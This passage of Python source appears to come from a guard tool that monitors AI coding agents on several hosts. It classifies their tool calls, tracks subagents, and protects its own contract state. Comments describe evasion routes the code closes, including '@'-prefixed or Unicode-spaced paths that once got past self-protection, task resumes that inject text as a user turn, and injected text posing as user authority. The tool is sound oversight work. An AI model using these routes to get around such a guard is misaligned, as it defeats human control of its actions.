    def on_post_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        # Only delegation results carry ledger facts; others would cost a lock.
        session = self.session_of(payload)
        call_id = self.field(payload, "tool_call_id")
        if session is None or payload.get("tool_name") != "delegate_task" or not _is_text(call_id):
            return None
        try:
            root = self.resolve(payload, store)
        except _LinkDamaged:
            return None  # recovery never writes: lifecycle facts are lost
        fact = dict(self.delegate_result(self.field(payload, "result")), id=call_id)
        event = self.envelope("action.after", root, action=fact, **self.fields(session, root))
        return ShimCall(name, event, render=False, session_id=session, root=root, store=store)

    @staticmethod
    def delegate_result(raw: Any) -> dict:
        result = _as_object(raw)
        if not isinstance(result, dict):
            return {"lifecycle": "unknown"}
        if result.get("status") == "dispatched" and result.get("mode") == "background":
            fact: dict = {"lifecycle": "running"}
            ids = result.get("subagent_ids")
            aliases = [i for i in ids if _is_text(i)] if isinstance(ids, list) else []
            if aliases:
                fact["agentAliases"] = aliases
            return fact
        results = result.get("results")
        if isinstance(results, list) and results and all(
                isinstance(r, dict) and r.get("status") in _HERMES_JOINED for r in results):
            return {"lifecycle": "joined"}
        return {"lifecycle": "unknown"}

    def on_subagent_start(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        parent = _text_or_none(self.field(payload, "parent_session_id")) or self.session_of(payload)
        child = _text_or_none(self.field(payload, "child_session_id"))
        alias = _text_or_none(self.field(payload, "child_subagent_id"))
        if parent is None:
            return None
        try:
            root = resolve_root(store, parent)
            # Every child is its own Hermes session: its own events must find
            # the root contract through these links.
            for linked in (child, alias):
                if linked and linked != root:
                    link_child(store, linked, root)
        except (_LinkDamaged, StateDamaged):
            return None
        event = self.envelope("subagent.start", root, agentId=child or alias, agentAlias=alias,
                              reservationId=_sole_open_reservation(store, root),
                              **self.fields(parent, root))
        return ShimCall(name, event, render=False, session_id=parent, root=root, store=store)

    def on_subagent_stop(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        parent = _text_or_none(self.field(payload, "parent_session_id")) or self.session_of(payload)
        agent = _text_or_none(self.field(payload, "child_session_id")) or \
            _text_or_none(self.field(payload, "child_subagent_id"))
        # Timed-out or interrupted children may still run: only a final status frees a slot.
        if parent is None or agent is None or self.field(payload, "child_status") not in _HERMES_DONE:
            return None
        try:
            root = resolve_root(store, parent)
        except _LinkDamaged:
            return None
        event = self.envelope("subagent.stop", root, agentId=agent, **self.fields(parent, root))
        return ShimCall(name, event, render=False, session_id=parent, root=root, store=store)

    def on_session_end(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
        session = self.session_of(payload)
        if session is None:
            return None
        try:
            root = self.resolve(payload, store)
        except _LinkDamaged:
            return None
        if root != session:
            return None  # a child ending never releases the root's ledger
        return ShimCall(name, self.envelope("session.end", root), render=False,
                        session_id=session, root=root, store=store)


# ---- OpenCode ---------------------------------------------------------------
_DIRECTIVE_HEADS = ("$stop-that-shit", "/skill:stop-that-shit")


def opencode_message_text(parts: Any) -> str:
    """The user's text: text parts that are neither synthetic nor ignored, joined by \\n."""
    if not isinstance(parts, list):
        return ""
    texts = [p["text"] for p in parts
             if isinstance(p, dict) and p.get("type") == "text" and isinstance(p.get("text"), str)
             and not p.get("synthetic") and not p.get("ignored")]
    return "\n".join(texts)


def unwrap_run_quoting(text: str) -> str:
    """`opencode run` wraps an argument holding spaces in double quotes.

    Only a whole-text quoted argument whose content starts with the directive
    is unwrapped; any other quoted text stays data, as the parser intends.
    """
    if len(text) < 2 or text[0] != '"' or text[-1] != '"':
        return text
    inner = text[1:-1]
    out = []
    index = 0
    while index < len(inner):
        char = inner[index]
        if char == '"':
            return text  # an unescaped quote: several arguments, not one
        if char == "\\" and index + 1 < len(inner) and inner[index + 1] in '"\\':
            out.append(inner[index + 1])
            index += 2
            continue
        out.append(char)
        index += 1
    unquoted = "".join(out)
    if unquoted.lower().startswith(_DIRECTIVE_HEADS):
        return unquoted
    return text


def opencode_agent_can_edit(value: Any) -> Optional[bool]:
    """ctx.agentCanEdit: a boolean from the shim, or the agent's permission rules.

    OpenCode 1.18 lists rules; the last one for `edit` or `*` with pattern `*`
    decides.  None means unknown (treated as editable).
    """
    if isinstance(value, bool) or value is None:
        return value
    if isinstance(value, dict):
        value = value.get("permission")
    if isinstance(value, list):
        editable = True
        for rule in value:
            if isinstance(rule, dict) and rule.get("permission") in ("edit", "*") \
                    and rule.get("pattern") == "*":
                editable = rule.get("action") != "deny"
        return editable
    if isinstance(value, dict):  # the older object form {edit: "deny"}
        edit = value.get("edit")
        if isinstance(edit, dict):
            edit = edit.get("*")
        if isinstance(edit, str):
            return edit != "deny"
    return None


def promote_editable_agent(store: Store, root: str, text: str, can_edit: Optional[bool]) -> bool:
    """OpenCode editable-agent promotion: a root message without a directive, sent
    to an agent that can edit while the contract is review, makes it change
    (source host; files, hash and deps kept).

    Runs before the prompt itself is interpreted, so a correction in the same
    message ("review only") still wins.  Returns True when it promoted.
    A message with no user text (only synthetic or ignored parts: plugin
    injections, `noReply` prompts) is not the user speaking, so it never widens.
    """
    if can_edit is False or not text.strip() or has_directive_mention(text):
        return False

    def change(loaded: Loaded) -> Tuple[Optional[dict], bool]:
        state = loaded.state
        if loaded.storage_error is not None or state.get("directiveError") \
                or state["contract"].get("mode") != "review":
            return None, False
        state["contract"] = dict(state["contract"], mode="change", source="host")
        return state, True

    return bool(store.update(session_key(root), change))


_TASK_ID_KEYS = ("task_id", "taskId", "taskID")


class OpenCodeAdapter(_ShimAdapter):
    """OpenCode 1.18 V1 plugin shim."""

    host = "opencode"
    family = "opencode"
    EVENTS = {
        "chat.message": "on_message",
        "tool.execute.before": "on_pre_tool",
        "tool.execute.after": "on_post_tool",
        "event": "on_event",
        "session.created": "on_event",
        "session.deleted": "on_event",
        "session.idle": "on_event",
    }
    TOOLS = {
        "write": "_write", "edit": "_edit", "apply_patch": "_apply_patch", "bash": "_shell",
        "task": "_task",
        **{name: "read" for name in ("glob", "grep", "lsp", "read", "webfetch", "websearch")},
        **{name: "control" for name in ("plan_enter", "plan_exit", "question", "skill",
                                        "todowrite")},
    }

    def tool_key(self, name: str) -> str:
        return name.lower()

    def classify_unlisted(self, name: str, tool_input: Any) -> dict:
        return unlisted_action(name, tool_input, fallback_mutability(name))

    def _write(self, name: str, args: dict) -> dict:
        return file_write_action(name, args.get("filePath"), args.get("content"))

    def _edit(self, name: str, args: dict) -> dict:
        return file_write_action(name, args.get("filePath"), args.get("newString"),
                                 args.get("oldString"), whole_file=False)

    def _apply_patch(self, name: str, args: dict) -> dict:
        return patch_action(name, args.get("patchText"))

    def _task(self, name: str, args: dict) -> dict:
        if any(_is_text(args.get(k)) for k in _TASK_ID_KEYS):
            # A continuation wakes an existing child the ledger cannot tell apart.
            return {"name": name, "mutability": "control", "delegationLifecycleUnproven": True}
        return {"name": name, "mutability": "delegate", "delegationCount": 1}

    def session_and_root(self, payload: dict, body: dict, store: Store,
                         inner: Any = None) -> Tuple[Optional[str], str]:
        session = self.session_of(payload)
        if session is None and isinstance(inner, dict):
            session = _text_or_none(inner.get("sessionID"))
        if session is None:
            return None, ""
        return session, resolve_root(store, session, _ctx(body).get("parentSessionId"))

    def render_prompt_error(self, result: CoreResult, call: HookCall) -> str:
        # A chat message cannot be rejected: the rejection becomes the context.
        error = rejection_of(result)
        return self._with_contract(directive_pause_text(error) if error else result.text, call)

    def _with_contract(self, text: str, call: HookCall) -> str:
        store, root = getattr(call, "store", None), getattr(call, "root", None)
        if store is not None and root:
            line = current_context(store, root)
            if line:
                text = text + "\n\n" + line
        return _json({"context": text})

    def render(self, result: CoreResult, call: HookCall) -> str:
        if call.host_event == "chat.message" and result.kind in ("context", "none") \
                and getattr(call, "store", None) is not None and not getattr(call, "child", False):
            pending = _pending_directive_error(call.store, call.root)
            if pending:
                return self._with_contract(directive_pause_text(pending), call)
        return super().render(result, call)

    def on_message(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        inner, output = body.get("input"), body.get("output")
        output = output if isinstance(output, dict) else {}
        try:
            session, root = self.session_and_root(payload, body, store, inner)
        except _LinkDamaged as exc:
            return ShimCall(name, None, answer=CoreResult(
                "context", "%s: %s" % (exc.error["code"], exc.error["message"])))
        if session is None or root != session:
            return None  # a child's prompt is the parent model's text: no authority
        if _ctx(body).get("ancestryUnknown") is True:
            # The shim could not look the parent up, so this may be a child we
            # cannot link: not known to be a root means no authority.
            return None
        text = unwrap_run_quoting(opencode_message_text(output.get("parts")))
        promote_editable_agent(store, root, text,
                               opencode_agent_can_edit(_ctx(body).get("agentCanEdit")))
        message = output.get("message") if isinstance(output.get("message"), dict) else {}
        agent = message.get("agent") or (inner.get("agent") if isinstance(inner, dict) else None)
        host = {"family": self.family}
        if isinstance(agent, str):
            host["agentType"] = agent
        event = self.envelope("prompt.submit", root, prompt=text,
                              turnId=_text_or_none(message.get("id")), host=host)
        return ShimCall(name, event, session_id=session, root=root, store=store)

    def on_pre_tool(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        inner, output = body.get("input"), body.get("output")
        if not isinstance(inner, dict):
            return None
        args = output.get("args") if isinstance(output, dict) else None
        tool = inner.get("tool")
        action = self.classify(tool, args) if _is_text(tool) else unreadable_call()
        try:
            session, root = self.session_and_root(payload, body, store, inner)
        except _LinkDamaged as exc:
            session = self.session_of(payload) or "unknown"
            return self.damaged_tool_call(name, session, action, inner.get("callID"), exc.error)
        if session is None:
            return None
        pending = _pending_directive_error(store, root)
        if pending:  # every tool call waits for a corrected directive (not audited)
            return _block(name, directive_pause_text(pending), session, tool_call=True)
        if self.tool_key(action["name"]) == "task":
            self._resumed_session(action, args, store, session, root)
        return self.before_call(name, session, root, action, inner.get("callID"),
                                self.cwd_of(payload), store, tool_input=args)

    @staticmethod
    def _resumed_session(action: dict, args: Any, store: Store, session: str, root: str) -> None:
        """`task` with a task_id resumes that session with the model's prompt,
        and OpenCode checks no parent: named after the root (or any session
        not known as one of its children) the text arrives there as a user
        turn.  That sets contract state, so self-protection stops it."""
        target = next((args[k] for k in _TASK_ID_KEYS
                       if isinstance(args, dict) and _is_text(args.get(k))), None)
        if target is None:
            return
        try:
            known_child = target not in (session, root) and store.link_root(target) == root
        except StateDamaged:
            known_child = False
        if not known_child:
            action.setdefault("affectedPaths", []).append(_session_state_folder())

    def on_post_tool(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        inner, output = body.get("input"), body.get("output")
        if not isinstance(inner, dict) or str(inner.get("tool", "")).lower() != "task" \
                or not _is_text(inner.get("callID")):
            return None
        try:
            session, root = self.session_and_root(payload, body, store, inner)
        except _LinkDamaged:
            return None
        if session is None:
            return None
        fact = dict(self.task_result(output), id=inner["callID"])
        event = self.envelope("action.after", root, action=fact, **self.fields(session, root))
        return ShimCall(name, event, render=False, session_id=session, root=root, store=store)

    @staticmethod
    def task_result(output: Any) -> dict:
        """The child session id binds the call; background keeps it running."""
        if not isinstance(output, dict) or not isinstance(output.get("output"), str):
            return {"lifecycle": "unknown"}
        meta = output.get("metadata")
        child = meta.get("sessionId") if isinstance(meta, dict) else None
        background = meta.get("background") if isinstance(meta, dict) else None
        if not _is_text(child) or (background is not None and not isinstance(background, bool)):
            return {"lifecycle": "unknown"}
        return {"lifecycle": "running" if background is True else "joined", "agentId": child}

    def on_event(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = body.get("event") if isinstance(body.get("event"), dict) else body
        kind = event.get("type") or name
        props = event.get("properties") if isinstance(event.get("properties"), dict) else {}
        info = props.get("info") if isinstance(props.get("info"), dict) else {}
        session = _text_or_none(info.get("id")) or _text_or_none(props.get("sessionID")) \
            or self.session_of(payload)
        if session is None:
            return None
        hint = _text_or_none(info.get("parentID")) if kind == "session.created" else None
        try:
            root = resolve_root(store, session, hint or _ctx(body).get("parentSessionId"))
        except _LinkDamaged:
            return None
        if kind == "session.deleted" and root == session:
            return ShimCall(name, self.envelope("session.end", root), render=False,
                            session_id=session, root=root, store=store)
        if kind == "session.idle" and root != session:
            # A child that went idle has finished its run.
            stop = self.envelope("subagent.stop", root, agentId=session, sourceSessionId=session)
            return ShimCall(name, stop, render=False, session_id=session, root=root, store=store)
        return None  # session.created only stores the link; a deleted child never frees the root


# ---- Pi ---------------------------------------------------------------------
_PI_SKILL_FORM = "/skill:stop-that-shit"
_PI_ASYNC_FLAGS = ("async_launched", "asyncLaunched", "run_in_background", "runInBackground",
                   "background")


def _replace_skill_form(text: str) -> str:
    """Every /skill:stop-that-shit (any case) becomes $stop-that-shit."""
    lower = text.lower()
    out, start = [], 0
    while True:
        at = lower.find(_PI_SKILL_FORM, start)
        if at < 0:
            break
        out.append(text[start:at])
        out.append("$stop-that-shit")
        start = at + len(_PI_SKILL_FORM)
    out.append(text[start:])
    return "".join(out)


def pi_subagent_shape(tool_input: Any) -> Tuple[int, bool]:
    """(count, unbounded) for the example `subagent` extension: exactly one of
    agent+task (1), a non-empty tasks[] (its length) or a non-empty chain[] (1,
    run one after another); none or several shapes is unbounded, count 0."""
    args = tool_input if isinstance(tool_input, dict) else {}
    shapes = []
    if _is_text(args.get("agent")) and _is_text(args.get("task")):
        shapes.append(1)
    for key, count_all in (("tasks", True), ("chain", False)):
        value = args.get(key)
        if isinstance(value, list) and value:
            shapes.append(len(value) if count_all else 1)  # a chain runs one at a time
    if len(shapes) != 1:
        return 0, True
    return shapes[0], False


_NOT_IDLE_TEXT = ("Stop That Shit did not apply this directive: it arrived mid-turn, while the "
                  "agent was working. Resubmit it when the agent is idle.")


# Pi's and OMP's expandPath turn these into plain spaces before writing.
_PI_SPACES = {ord(c): " " for c in "\u00a0\u2000\u2001\u2002\u2003\u2004\u2005\u2006"
              "\u2007\u2008\u2009\u200a\u202f\u205f\u3000"}


def _home_path(rest: str) -> str:
    return os.path.expanduser("~") + rest


def pi_host_path(path: Any) -> Any:
    """The path Pi 0.73 really writes (path-utils expandPath): one leading `@`
    dropped, Unicode spaces made plain, `~` and `~/` expanded.  Judging the
    raw text let `@<data dir>/…` past self-protection and `@package.json`
    past the dependency check."""
    if not isinstance(path, str):
        return path
    text = (path[1:] if path.startswith("@") else path).translate(_PI_SPACES)
    if text == "~" or text.startswith("~/"):
        return _home_path(text[1:])
    return text


def omp_host_path(path: Any) -> Any:
    """The path Oh My Pi 18.2 really writes (path-utils expandPath): a stray
    leading `:` and an `@` before an absolute or home path dropped, Unicode
    spaces made plain, a `file://` URL decoded, `~`, `~/` and `~name`
    expanded (to <home>/name)."""
    if not isinstance(path, str):
        return path
    text = path
    if text.startswith(":") and (text[1:2] in ("/", "\\", "~") or text[1:].startswith(
            ("./", ".\\", "../", "..\\")) or _is_windows_path(text[1:] + "/")):
        text = text[1:]
    if text.startswith("@") and (text[1:2] in ("/", "\\") or text[1:] == "~"
                                 or text[1:].startswith(("~/", "\\\\"))
                                 or _is_windows_path(text[1:])):
        text = text[1:]
    text = text.translate(_PI_SPACES)
    if text.lower().startswith("file://"):
        from urllib.parse import unquote
        rest = text[7:]
        if rest.lower().startswith("localhost/"):
            rest = rest[9:]
        if rest.startswith("/"):
            text = unquote(rest)
    if text == "~":
        return _home_path("")
    if text.startswith(("~/", "~\\")):
        return _home_path(text[1:])
    if text.startswith("~"):
        return os.path.join(_home_path(""), text[1:])
    return text


class PiAdapter(_ShimAdapter):
    """Pi 0.73 extension shim; one session per process, no built-in children."""

    host = "pi"
    family = "pi"
    EVENTS = {
        "input": "on_input",
        "tool_call": "on_tool_call",
        "tool_result": "on_tool_result",
        "session_shutdown": "on_session_end",
    }
    TOOLS = {
        **{name: "read" for name in ("read", "grep", "find", "ls")},
        "write": "_write", "edit": "_edit", "bash": "_shell", "powershell": "_powershell",
        "subagent": "_subagent",
    }
    COMPLETION_SCOPE: Optional[str] = "call"  # Pi frees capacity per call, not per child

    def tool_key(self, name: str) -> str:
        return name.lower()

    def normalize_prompt(self, text: str) -> str:
        return _replace_skill_form(text)

    def _write(self, name: str, args: dict) -> dict:
        return file_write_action(name, pi_host_path(args.get("path")), args.get("content"))

    def _edit(self, name: str, args: dict) -> dict:
        path = pi_host_path(args.get("path"))
        edits = args.get("edits")
        pairs = [(e.get("oldText"), e.get("newText")) for e in edits if isinstance(e, dict)] \
            if isinstance(edits, list) else [(args.get("oldText"), args.get("newText"))]
        path_text = path if isinstance(path, str) else None
        added = "\n".join(new for _, new in pairs if isinstance(new, str))
        removed = "\n".join(old for old, _ in pairs if isinstance(old, str))
        return {"name": name, "mutability": "write",
                "affectedPaths": [path_text] if path_text else [],
                "hashIntent": bool(added) and hash_intent_in_text(added, path_text,
                                                                  removed_text=removed),
                "dependencyIntent": any(
                    isinstance(new, str) and new and dependency_intent_in_change(
                        path_text, old if isinstance(old, str) else "", new)
                    for old, new in pairs)}

    def _subagent(self, name: str, args: dict) -> dict:
        count, unbounded = pi_subagent_shape(args)
        action = {"name": name, "mutability": "delegate", "delegationCount": count}
        if unbounded:
            action["unboundedDelegation"] = True
        return action

    def event_of(self, body: dict) -> dict:
        event = body.get("event")
        return event if isinstance(event, dict) else {}

    def session_and_root(self, payload: dict, body: dict, store: Store) -> Tuple[Optional[str], str]:
        session = self.session_of(payload)
        return session, session or ""  # Pi: the session is its own root

    def prompt_call(self, name: str, payload: dict, body: dict, store: Store,
                    text: str, session: str, root: str) -> HookCall:
        """prompt.submit unless the agent is busy and the text would change authority."""
        if _ctx(body).get("idle") is False and parse_inspection_command(text) is None:
            if _would_change_contract(store, root, text):
                return _block(name, _NOT_IDLE_TEXT, session)
            return ShimCall(name, None, answer=NO_RESULT)  # busy, plain text: nothing to do
        event = self.envelope("prompt.submit", root, prompt=text, host={"family": self.family})
        return ShimCall(name, event, session_id=session, root=root, store=store)

    def on_input(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = self.event_of(body)
        text = event.get("text")
        source = event.get("source")
        if source == "extension" or not _is_text(source) or not isinstance(text, str):
            # Text an extension injected is never user authority.  Pi 0.73.1
            # always names the source, so an input without one is not known
            # to be the user's either.
            return None
        session = self.session_of(payload)
        if session is None:
            return None
        return self.prompt_call(name, payload, body, store, self.normalize_prompt(text),
                                session, session)

    def on_tool_call(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = self.event_of(body)
        tool = event.get("toolName")
        action = self.classify(tool, event.get("input")) if _is_text(tool) else unreadable_call()
        if self.COMPLETION_SCOPE:
            action["completionScope"] = self.COMPLETION_SCOPE
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged as exc:
            return self.damaged_tool_call(name, self.session_of(payload) or "unknown", action,
                                          event.get("toolCallId"), exc.error)
        if session is None:
            return None
        return self.before_call(name, session, root, action, event.get("toolCallId"),
                                self.cwd_of(payload), store, tool_input=event.get("input"))

    def result_fact(self, event: dict) -> Optional[dict]:
        if event.get("toolName") != "subagent":
            return None
        details = event.get("details") if isinstance(event.get("details"), dict) else {}
        if any(event.get(k) is True or details.get(k) is True for k in _PI_ASYNC_FLAGS):
            return {"lifecycle": "running"}
        if isinstance(event.get("content"), list) and isinstance(event.get("isError"), bool) \
                and details.get("mode") in ("single", "parallel", "chain") \
                and isinstance(details.get("results"), list):
            return {"lifecycle": "joined"}
        return {"lifecycle": "unknown"}

    def on_tool_result(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        event = self.event_of(body)
        call_id = event.get("toolCallId")
        fact = self.result_fact(event)
        if fact is None or not _is_text(call_id):
            return None
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged:
            return None
        if session is None:
            return None
        fact["id"] = call_id
        after = self.envelope("action.after", root, action=fact, **self.fields(session, root))
        return ShimCall(name, after, render=False, session_id=session, root=root, store=store)

    def on_session_end(self, payload: dict, body: dict, store: Store, name: str) -> Optional[HookCall]:
        try:
            session, root = self.session_and_root(payload, body, store)
        except _LinkDamaged:
            return None
        if session is None or root != session:
            return None  # a child shutting down never closes the root
        return ShimCall(name, self.envelope("session.end", root), render=False,
                        session_id=session, root=root, store=store)


# ---- Oh My Pi ---------------------------------------------------------------
_OMP_HUB_OPS = {
    **{op: "read" for op in ("wait", "inbox", "list", "jobs", "ps", "logs", "describe")},
    "cancel": "control", "stop": "control",
}
_OMP_INPUT_SOURCES = frozenset(("interactive", "rpc"))
_OMP_PREFIXES = ("/sts", "--sts-contract")
_HEX = frozenset("0123456789abcdefABCDEF")


def _omp_directive_form(text: str) -> str:
    """OMP's `/sts <args>` and `--sts-contract <args>` mean `$stop-that-shit <args>`."""
    text = _replace_skill_form(text)
    # Only the directive position counts: blank lines, then at most three
    # spaces.  A tab, 4+ spaces or NBSP before it is pasted code, not a command.
    offset = 0
    for line in text.split("\n"):
        if line.strip(" \t\r") == "":
            offset += len(line) + 1
            continue
        indent = len(line) - len(line.lstrip(" "))
        if indent > 3:
            return text
        stripped = text[offset + indent:]
        for prefix in _OMP_PREFIXES:
            if stripped.lower().startswith(prefix):
                rest = stripped[len(prefix):]
                if rest == "" or rest[0] in " \t\r\n=":
                    return "$stop-that-shit" + (" " + rest[1:] if rest[:1] == "=" else rest)
        return text
    return text


def _hashline_header(line: str) -> Optional[str]:
    """`[PATH#ABCD]` (or the legacy `¶PATH#ABCD`): the path, else None."""
    body = None
    if line.startswith("[") and line.endswith("]") and len(line) > 2:
        body = line[1:-1]
    elif line.lstrip().startswith("\u00b6"):
        body = line.lstrip().lstrip("\u00b6")
    if body is None:
        return None
    body = body.strip()
    if len(body) > 5 and body[-5] == "#" and set(body[-4:]) <= _HEX:
        body = body[:-5]
    elif line.startswith("["):
        return None  # a bracket line without the snapshot tag is not a section
    if len(body) >= 2 and body[0] == body[-1] and body[0] in "'\"":
        body = body[1:-1]
    return body or None


def omp_edit_paths(text: str) -> Tuple[List[str], str]:
    """Paths and added text of an OMP `edit` input: hashline sections (with MV
    destinations) and anchored `*** Edit File:` blocks; Codex-style headers are
    left to analyze_patch."""
    paths: List[str] = []
    added: List[str] = []
    in_section = False
    for raw in text.replace("\r\n", "\n").split("\n"):
        line = raw.rstrip("\r")
        if line.startswith("+") and not line.startswith("+++"):
            added.append(line[1:])
            continue
        header = _hashline_header(line.strip())
        if header is not None:
            paths.append(header)
            in_section = True
            continue
        stripped = line.strip()
        if in_section and stripped.startswith("MV "):
            dest = stripped[3:].strip()
            if dest:
                paths.append(dest)
            continue
        if stripped.startswith("***"):
            rest = stripped[3:].strip()
            if rest.lower().startswith("edit file:"):
                target = rest[len("edit file:"):].strip()
                if target:
                    paths.append(target)
    return paths, "\n".join(added)


# How many entries the guard walks looking for Oh My Pi's suffix fallback.
_OMP_SUFFIX_WALK_LIMIT = 20000


def omp_edit_candidates(paths: List[str], cwd: Optional[str]) -> Tuple[List[str], bool]:
    """(extra paths, complete) for an Oh My Pi `edit`: its engine, given a path
    that does not exist, edits the one workspace file whose path ends the same
    way ("suffix recovery": `src/util.py` may land in `vendor/src/util.py`).
    Every such file is a possible target, so all of them are judged.
    `complete` is False when the workspace was too large to search, so where
    the edit lands is not established."""
    extra: List[str] = []
    wanted = []
    for raw in paths:
        text = raw.replace("\\", "/").strip()
        while text.startswith("./"):
            text = text[2:]
        text = text.rstrip("/")
        if not text or os.path.isabs(text) or not cwd or text.startswith("../") or text == "..":
            continue
        if not os.path.lexists(os.path.join(cwd, text)):
            wanted.append(text)
    if not wanted:
        return extra, True
    seen = 0
    for folder, dirs, files in os.walk(cwd):
        seen += len(dirs) + len(files)
        if seen > _OMP_SUFFIX_WALK_LIMIT:
            return extra, False
        base = os.path.relpath(folder, cwd).replace(os.sep, "/")
        for entry in dirs + files:
            rel = entry if base == "." else base + "/" + entry
            for text in wanted:
                if (rel.endswith("/" + text) or rel == text) and rel not in extra:
                    extra.append(rel)
    return extra, True


def omp_task_shape(tool_input: Any) -> Tuple[int, bool]:
    """(count, unbounded) of an OMP `task` call: the batch length, else 1;
    unbounded when any item (or the single form) lacks a non-empty `task`."""
    args = tool_input if isinstance(tool_input, dict) else {}
    tasks = args.get("tasks")
    if isinstance(tasks, list) and tasks:
        unbounded = not all(isinstance(t, dict) and _is_text(t.get("task")) for t in tasks)
        return len(tasks), unbounded
    if "tasks" in args and not isinstance(tasks, list):
        return 1, True  # a malformed batch cannot be bounded
    return 1, not _is_text(args.get("task"))


def omp_link_path(store: Store, session_file: str) -> str:
    return store.path("omp-parents", session_key(os.path.abspath(session_file)) + ".json")


def omp_parent_of(store: Store, session_file: Any) -> Optional[str]:
    """The root stored for a session file; raises _LinkDamaged when it is unreadable."""
    if not _is_text(session_file):
        return None
    target = omp_link_path(store, session_file)
    try:
        with open(target, "rb") as fh:
            raw = fh.read()
    except FileNotFoundError:
        return None
    except OSError as exc:
        raw, why = None, type(exc).__name__
    root = None
    if raw is not None:
        try:
            obj = json.loads(raw.decode("utf-8"))
            root = obj.get("rootSessionId") if isinstance(obj, dict) else None
        except ValueError:
            root = None
        why = "malformed"
    if not _is_text(root):
        raise _LinkDamaged({"code": "PARENT_LINK_DAMAGED", "message": (
            "The parent link of this Oh My Pi session (%s) is unreadable (%s); read-only "
            "recovery is active and the file is preserved. Restore it or start a new host "
            "session." % (os.path.basename(target), why))})
    return root


def omp_write_parent(store: Store, session_file: str, root: str) -> None:
    """Persist child session file -> root; never overwrite a damaged link silently."""
    target = omp_link_path(store, session_file)
    if os.path.exists(target):
        return
    store._write_json(target, {"rootSessionId": root})


class OmpAdapter(PiAdapter):
    """Oh My Pi 18.2 extension shim; children run in-process with their own sessions."""

    host = "omp"
    family = "omp"
    COMPLETION_SCOPE = None  # capacity is released per child, by the lifecycle bus
    EVENTS = {
        "session_start": "on_session_start",
        "command:sts": "on_command",
        "input": "on_input",
        "before_agent_start": "on_agent_start",
        "tool_call": "on_tool_call",
        "tool_result": "on_tool_result",
        "task:subagent:lifecycle": "on_lifecycle",
        "tool_approval_resolved": "on_approval",
        "session_shutdown": "on_session_end",
    }
    TOOLS = {
        **{name: "read" for name in ("read", "grep", "find", "ls", "glob", "web_search")},
        "write": "_write", "edit": "_edit", "bash": "_shell", "powershell": "_powershell",
        "task": "_task", "hub": "_hub",
        **{name: "control" for name in ("ask", "todo", "yield")},
        "eval": "_eval", "subagent": "_spawner",
    }

    def _shell(self, name: str, args: dict) -> dict:
        # `env` gives the command extra variables: judged as `K=V command`.
        return shell_action(name, _with_env(args.get("env")) + args["command"]
                            if isinstance(args.get("command"), str) else None)

    def _powershell(self, name: str, args: dict) -> dict:
        action = shell_action(name, args.get("command"), powershell=True)
        if args.get("env"):
            action["mutability"] = "write" if action["mutability"] == "write" else "unknown"
            action.setdefault("analysisReason", "state_change")
        return action

    def host_resolution(self, action: dict, tool_input: Any, cwd: Optional[str]) -> None:
        if self.tool_key(action["name"]) != "edit" or not action.get("affectedPaths"):
            return
        extra, complete = omp_edit_candidates(action["affectedPaths"], cwd)
        action["affectedPaths"] = action["affectedPaths"] + extra
        if not complete:
            action["unknownWriteTarget"] = True

    def _eval(self, name: str, args: dict) -> dict:
        """Code in OMP's persistent py/js kernel: the shell's analysis of that
        code; it may also wake agents through helpers, so never countable."""
        action = code_action(name, args.get("language") if isinstance(args.get("language"), str)
                             else "py", args.get("code"))
        action["delegationLifecycleUnproven"] = True
        return action

    def normalize_prompt(self, text: str) -> str:
        return _omp_directive_form(text)

    def session_and_root(self, payload: dict, body: dict, store: Store) -> Tuple[Optional[str], str]:
        session = self.session_of(payload)
        if session is None:
            return None, ""
        ctx = _ctx(body)
        root = omp_parent_of(store, ctx.get("sessionFile"))
        if root and root != session:
            return session, root
        return session, resolve_root(store, session, ctx.get("parentSessionId"))

    # ---- tools --------------------------------------------------------------
    def _write(self, name: str, args: dict) -> dict:
        path = args.get("path")
        if isinstance(path, str):
            lower = path.strip().lower()
            if lower.startswith("proc://"):
                kill = lower.rstrip("/").endswith("/kill")
                return {"name": name, "mutability": "control" if kill else "unknown"}
            if lower.startswith("agent://"):
                # Agent mail can wake a child the ledger cannot tell apart.
                return {"name": name, "mutability": "unknown", "delegationLifecycleUnproven": True}
        return file_write_action(name, omp_host_path(path), args.get("content"))

    def _edit(self, name: str, args: dict) -> dict:
        text = args.get("input") if isinstance(args.get("input"), str) else args.get("_input")
        paths: List[str] = []
        hash_hit = dependency_hit = False
        if isinstance(text, str):
            found, added = omp_edit_paths(text)
            found = [omp_host_path(p) for p in found]
            summary = analyze_patch(text)  # the Codex-style transport
            paths = found + [omp_host_path(p) for p in summary.paths if p not in found]
            # Lines of Codex-style sections were read with their own file's path by
            # analyze_patch; only hashline and anchored sections are read here.
            if not found:
                added = ""
            hash_hit = summary.hash_intent or (bool(added) and hash_intent_in_text(
                added, found[0] if len(found) == 1 else None))
            dependency_hit = summary.dependency_intent or (bool(added) and any(
                dependency_intent_in_change(p, "", added) for p in found))
        for key in ("path", "_path"):
            if _is_text(args.get(key)):
                paths.append(omp_host_path(args[key]))
        if isinstance(args.get("paths"), list):
            paths.extend(omp_host_path(p) for p in args["paths"] if _is_text(p))
        edits = args.get("edits")
        for entry in edits if isinstance(edits, list) else []:
            if not isinstance(entry, dict):
                continue
            if _is_text(entry.get("rename")):
                paths.append(omp_host_path(entry["rename"]))
            if entry.get("op") == "create" and isinstance(entry.get("diff"), str):
                target = omp_host_path(args.get("path")) if isinstance(args.get("path"), str) \
                    else None
                hash_hit = hash_hit or hash_intent_in_text(entry["diff"], target)
                dependency_hit = dependency_hit or dependency_intent_in_change(
                    target, None, entry["diff"])
        if isinstance(args.get("new_string"), str):
            target = omp_host_path(args.get("path")) if isinstance(args.get("path"), str) \
                else None
            replace = file_write_action(name, target, args["new_string"], args.get("old_string"),
                                        whole_file=False)
            hash_hit = hash_hit or replace["hashIntent"]
            dependency_hit = dependency_hit or replace["dependencyIntent"]
